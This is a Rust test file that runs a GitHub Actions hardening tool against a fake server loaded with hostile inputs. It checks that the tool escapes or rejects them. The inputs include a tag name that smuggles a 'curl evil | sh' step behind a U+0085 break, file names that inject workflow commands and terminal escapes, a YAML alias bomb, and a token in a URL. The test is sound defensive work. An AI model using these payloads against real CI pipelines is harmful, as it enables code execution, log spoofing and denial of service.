//! Hostile repositories and servers (issue 17), through the real `harden` binary against a
//! local fake GitHub: what reaches the files, the terminal and the CI log.

use std::fs;
use std::path::Path;
use std::process::Output;
use std::time::{Duration, Instant};

mod common;

use harden_testserver::RecordedRepo;

const A: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const WORKFLOW: &str = "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n";

use common::Fixture;

fn fixture() -> Fixture {
    Fixture::with_workflow(WORKFLOW)
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn both(out: &Output) -> String {
    format!("{}{}", text(&out.stdout), text(&out.stderr))
}

fn read(p: &Path) -> String {
    fs::read_to_string(p).expect("read")
}

/// No control character but newline and tab, no YAML 1.1 line break, no bidi override.
fn assert_printable(output: &str) {
    let bad = output.chars().find(|c| {
        (c.is_control() && !matches!(c, '\n' | '\t'))
            || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}')
    });
    assert_eq!(bad, None, "{output:?}");
}

#[test]
fn hostile_tag_names_never_reach_the_file_or_the_terminal() {
    // Issue 17 point 1: a tag on the same commit as `v1` was written as the version comment.
    let f = fixture();
    let mut evil = RecordedRepo::new("evil/action")
        .with_tag("v1", A)
        .with_tag("v1.0.0", A);
    for name in [
        "v1.0.1-a\u{85}      - run: curl evil | sh",
        "v1.0.2\u{2028}- run: x",
        "v1.0.3\u{1b}]0;owned\u{7}",
        "v1.0.4\r::error ::owned",
        "v1.0.9'\"",
    ] {
        evil = evil.with_tag(name, A);
    }
    f.server.add_repo(evil);
    let ci = f.write(
        "ci.yml",
        "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: evil/action@v1\n",
    );
    for format in ["text", "github"] {
        let out = f.harden(&["--only", "pin-actions", "--dry-run", "--format", format]);
        assert_eq!(out.status.code(), Some(0), "{}", both(&out));
        assert_printable(&both(&out));
        assert!(
            both(&out).contains("the server sent 5 tag or branch name(s)"),
            "{}",
            both(&out)
        );
        for line in text(&out.stdout).lines().filter(|_| format == "github") {
            assert!(
                line.starts_with("::notice ") || line.starts_with("::warning "),
                "{line}"
            );
        }
    }
    let out = f.harden(&["--only", "pin-actions"]);
    assert_eq!(out.status.code(), Some(0), "{}", both(&out));
    assert!(
        read(&ci).contains(&format!("uses: evil/action@{A} # v1.0.0\n")),
        "{}",
        read(&ci)
    );
}

#[test]
fn a_step_hidden_behind_nel_is_a_located_error_and_check_fails() {
    // Issue 17 point 2: one step for harden, two for YAML 1.1 parsers; `--check` exited 0.
    let f = fixture();
    let hidden = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4 # note\u{85}      - uses: actions/setup-node@v4\n";
    let bad = f.write("hidden.yml", hidden);
    let out = f.harden(&["--only", "pin-actions", "--check"]);
    assert_eq!(out.status.code(), Some(2), "{}", both(&out));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("hidden.yml:6:41: invalid YAML: U+0085"),
        "{stderr}"
    );
    assert!(stderr.contains("YAML 1.1 parsers"), "{stderr}");
    assert_printable(&both(&out));
    assert_eq!(read(&bad), hidden);
}

#[test]
fn alias_bombs_and_recursive_aliases_are_located_errors_and_the_rest_is_processed() {
    // Issue 17 points 3 (24 GB, killed by the kernel) and 4 (more than nine minutes).
    let f = fixture();
    let mut bomb = String::from("on: push\na0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for i in 1..=9 {
        let refs = vec![format!("*a{}", i - 1); 10].join(", ");
        bomb.push_str(&format!("a{i}: &a{i} [{refs}]\n"));
    }
    bomb.push_str("jobs:\n  j:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n");
    f.write("bomb.yml", &bomb);
    let recursive = "on: push\njobs: &a\n  j:\n    runs-on: x\n    needs: *a\n    steps:\n      - uses: actions/checkout@v4\n";
    f.write("recursive.yml", recursive);
    let started = Instant::now();
    let out = f.harden(&["--only", "pin-actions,permissions"]);
    assert!(started.elapsed() < Duration::from_secs(60));
    assert_eq!(out.status.code(), Some(2), "{}", both(&out));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("bomb.yml:6:") && stderr.contains("alias bomb"),
        "{stderr}"
    );
    assert!(
        stderr.contains("recursive.yml:5:12") && stderr.contains("recursive alias"),
        "{stderr}"
    );
    assert_eq!(read(&f.path("recursive.yml")), recursive);
    assert!(read(&f.path("ci.yml")).contains("actions/checkout@"));
    assert!(!read(&f.path("ci.yml")).contains("@v4\n"));
}

#[cfg(unix)]
#[test]
fn file_names_with_newlines_and_escapes_are_printed_escaped() {
    // Issue 17 point 12: a file name holding a newline and `::error` printed a workflow
    // command on its own line; ANSI sequences reached the terminal.
    let f = fixture();
    for name in ["x\n::error ::owned.yml", "\u{1b}[2J\u{1b}]0;t\u{7}.yml"] {
        f.write(name, "on: push\njobs: [\n");
    }
    for format in ["text", "github"] {
        let out = f.harden(&["--only", "pin-actions", "--dry-run", "--format", format]);
        assert_eq!(out.status.code(), Some(2), "{}", both(&out));
        let all = both(&out);
        assert_printable(&all);
        assert!(
            !all.lines().any(|l| l.starts_with("::error ::owned")),
            "{all}"
        );
        let shown = if format == "text" {
            "x\\n::error ::owned.yml"
        } else {
            "x\\n%3A%3Aerror %3A%3Aowned.yml"
        };
        assert!(all.contains(shown), "{all}");
        assert!(all.contains("\\u{1b}[2J"), "{all}");
    }
}

#[test]
fn credentials_in_the_server_url_are_never_printed() {
    // Issue 17 point 11.
    let f = fixture();
    for var in ["GITHUB_SERVER_URL", "GITHUB_API_URL"] {
        let out = f
            .command(&["--only", "pin-actions", "--dry-run"])
            .env(var, "http://someone:ghp_TopSecret@127.0.0.1:1")
            .output()
            .expect("harden runs");
        assert_ne!(out.status.code(), Some(0));
        let all = both(&out);
        assert!(
            !all.contains("ghp_TopSecret") && !all.contains("someone"),
            "{all}"
        );
        assert!(all.contains("http://***@127.0.0.1:1"), "{all}");
    }
}

#[test]
fn long_uses_values_are_shortened_in_messages() {
    // Issue 17 point 15: a 20,000-character `uses:` value was printed whole.
    let f = fixture();
    let long = format!("actions/checkout@{}", "x".repeat(20_000));
    f.write(
        "long.yml",
        format!("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: {long}\n"),
    );
    let out = f.harden(&["--only", "pin-actions", "--dry-run"]);
    assert_eq!(out.status.code(), Some(2), "{}", both(&out));
    let stderr = text(&out.stderr);
    let line = stderr
        .lines()
        .find(|l| l.contains("long.yml"))
        .expect("a finding");
    assert!(line.len() < 1_000, "{} characters", line.len());
    assert!(line.contains("characters]"), "{line}");
}

#[test]
fn harden_yml_declarations_for_unknown_workflows_and_jobs_are_located_warnings() {
    // Issue 17 point 15: they were silently ignored, as was a second YAML document.
    let f = fixture();
    let config = f.repo.path().join(".github/harden.yml");
    fs::write(
        &config,
        "permissions:\n  jobs:\n    ci.yml:\n      buld: {contents: write}\n    relase.yml:\n      x: {}\n",
    )
    .expect("write");
    let out = f.harden(&["--only", "permissions", "--dry-run"]);
    assert_eq!(out.status.code(), Some(0), "{}", both(&out));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("harden.yml:4:7: [permissions] permissions.jobs.ci.yml: no job `buld`"),
        "{stderr}"
    );
    assert!(
        stderr.contains("harden.yml:5:5: [permissions] permissions.jobs: no workflow `relase.yml`"),
        "{stderr}"
    );
    fs::write(
        &config,
        "dependabot:\n  schedule: weekly\n---\ndependabot:\n  schedule: daily\n",
    )
    .expect("write");
    let out = f.harden(&["--only", "dependabot", "--dry-run"]);
    assert_eq!(out.status.code(), Some(2), "{}", both(&out));
    assert!(
        text(&out.stderr).contains("harden.yml:4:1: a second YAML document"),
        "{}",
        both(&out)
    );
}

/// Issue 28: a file name with line breaks printed `::error …` on a line of its own in the diff
/// headers (fixed once, back again); JSON and SARIF kept DEL, C1 controls and U+2028 raw.
#[test]
fn diff_headers_json_and_sarif_never_carry_raw_controls() {
    let f = fixture();
    let name = "x\n::error ::owned\u{85}\u{2028}\u{7f}\u{202e}.yml";
    f.write(name, WORKFLOW);
    let out = f.harden(&["--only", "pin-actions", "--dry-run"]);
    assert_eq!(out.status.code(), Some(0), "{}", both(&out));
    let all = both(&out);
    assert_printable(&all);
    assert!(!all.lines().any(|l| l.starts_with("::error")), "{all}");
    assert!(all.contains("/x\\n::error ::owned\\u{85}"), "{all}");
    for format in ["json", "sarif"] {
        let out = f.harden(&["--only", "pin-actions", "--check", "--format", format]);
        let stdout = text(&out.stdout);
        assert!(
            !stdout
                .chars()
                .any(|c| c != '\n' && harden_yaml::invisible::is_unsafe(c)),
            "{format}: {stdout:?}"
        );
        let _: serde_json::Value = serde_json::from_str(&stdout).expect("valid JSON");
        assert!(stdout.contains("\\u0085"), "{format}: {stdout}");
    }
}

/// Issue 28: `harden audit`'s text and Markdown outputs printed ESC, OSC and C1 raw from file
/// and folder names; Markdown kept backticks and links.
#[test]
fn audit_outputs_escape_names_in_every_format() {
    let work = tempfile::tempdir().expect("tempdir");
    let root = work.path().join("r\u{1b}]0;x\u{7}`[l](http:e)");
    let wf = root.join(".github/workflows");
    fs::create_dir_all(&wf).expect("mkdir");
    fs::write(wf.join("w\u{9b}31m\u{2028}`x`.yml"), WORKFLOW).expect("write");
    for format in ["text", "markdown", "json"] {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_harden"))
            .args(["audit", "--details", "--format", format])
            .arg(&root)
            .env("HARDEN_CACHE_DIR", work.path().join("cache"))
            .env("GITHUB_SERVER_URL", "http://127.0.0.1:9")
            .env("GITHUB_API_URL", "http://127.0.0.1:9")
            .output()
            .expect("harden runs");
        let all = both(&out);
        assert!(
            !all.chars()
                .any(|c| c != '\n' && harden_yaml::invisible::is_unsafe(c)),
            "{format}: {all:?}"
        );
        if format == "markdown" {
            assert!(all.contains("\\`\\[l\\](http:e)"), "{all}");
            assert!(!all.contains("`x`"), "{all}");
        }
    }
}
